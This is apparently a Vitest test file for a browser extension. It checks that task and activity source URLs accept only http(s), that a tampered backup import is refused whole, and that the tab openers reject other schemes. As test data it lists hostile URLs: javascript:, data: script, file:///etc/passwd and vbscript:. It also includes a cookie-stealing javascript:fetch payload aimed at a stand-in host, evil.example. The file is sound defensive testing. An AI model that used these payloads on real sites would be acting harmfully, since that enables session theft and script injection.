import { describe, expect, it, vi } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import { db } from '@/lib/db';
import { createTask, ensureDefaults } from '@/lib/db/mutations';
import { exportBackup, ImportRejected, importBackupJson } from '@/lib/io';
import { Activity, EmailRef, Task, WebUrl } from '@/lib/model';
import { openSourceUrl } from '@/components/panel/open-source';
import { openTaskSource } from '@/lib/reminders/actions';

/**
 * A task's or activity's `sourceUrl` is opened in a tab by the panel's *Open* and by a
 * notification click. Before issue #7 any parseable URL was accepted, so a restored backup
 * (or anything else that writes through the model) could plant `javascript:`, `data:` or
 * `file:` addresses. Now the model keeps http(s) only, and both openers refuse the rest.
 */

const HOSTILE = ['javascript:alert(document.domain)', 'JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>', 'file:///etc/passwd', 'chrome://settings', 'vbscript:msgbox(1)', `chrome-extension://${'a'.repeat(32)}/options.html`];
const FINE = ['https://mail.google.com/mail/u/0/#inbox/FMfcgz', 'http://localhost:8080/x', 'HTTPS://Calendar.Google.com/calendar/r'];
const NOW = Date.UTC(2026, 10, 20, 12);

describe('the model keeps only web addresses as sources', () => {
  it.each(HOSTILE)('refuses %s', (url) => {
    expect(WebUrl.safeParse(url).success).toBe(false);
    const task = { id: 't1', kind: 'follow_up', title: 'x', dueAt: NOW, status: 'open', createdAt: NOW, updatedAt: NOW, sourceUrl: url };
    expect(Task.safeParse(task).success).toBe(false);
    const act = { id: 'a1', kind: 'email', occurredAt: NOW, contactIds: [], createdAt: NOW, sourceUrl: url };
    expect(Activity.safeParse(act).success).toBe(false);
    // The contact's copy of its newest email (schema v4) feeds the no-reply nudge's task.
    expect(EmailRef.safeParse({ id: 'a1', occurredAt: NOW, sourceUrl: url }).success).toBe(false);
  });

  it.each(FINE)('accepts %s', (url) => {
    expect(WebUrl.safeParse(url).success).toBe(true);
  });

  it('a mutation refuses to write a hostile source', async () => {
    await expect(createTask({ kind: 'follow_up', title: 'x', dueAt: NOW, sourceUrl: 'javascript:alert(1)' }, { now: NOW })).rejects.toThrow();
    expect(await db.tasks.count()).toBe(0);
  });
});

describe('a backup carrying a javascript: source is refused whole', () => {
  it('names the field and writes nothing', async () => {
    await ensureDefaults();
    await createTask({ kind: 'follow_up', title: 'Call Ann', dueAt: NOW, sourceUrl: FINE[0] }, { now: NOW });
    const backup = await exportBackup({ now: NOW });
    backup.data.tasks[0]!.sourceUrl = 'javascript:fetch("https://evil.example/?"+document.cookie)';
    const before = await db.tasks.toArray();
    const err = await importBackupJson(JSON.stringify(backup), { now: NOW }).then(
      () => null,
      (e: unknown) => e,
    );
    expect(err).toBeInstanceOf(ImportRejected);
    expect((err as ImportRejected).issues.map((i) => i.field)).toContain('data.tasks[0].sourceUrl');
    expect(await db.tasks.toArray()).toEqual(before);
  });
});

describe('openers refuse anything but http(s)', () => {
  it.each(HOSTILE)('the panel does not open %s', async (url) => {
    const create = vi.spyOn(fakeBrowser.tabs, 'create');
    const update = vi.spyOn(fakeBrowser.tabs, 'update');
    await openSourceUrl(url);
    expect(create).not.toHaveBeenCalled();
    expect(update).not.toHaveBeenCalled();
  });

  it('the panel opens a web address', async () => {
    const create = vi.spyOn(fakeBrowser.tabs, 'create');
    await openSourceUrl(FINE[0]!);
    expect(create).toHaveBeenCalledWith({ url: FINE[0] });
  });

  it.each(HOSTILE)('a notification click on a task from %s opens the side panel instead', async (url) => {
    const create = vi.spyOn(fakeBrowser.tabs, 'create');
    await openTaskSource(url);
    expect(create.mock.calls.map(([o]) => o?.url)).not.toContain(url);
  });
});
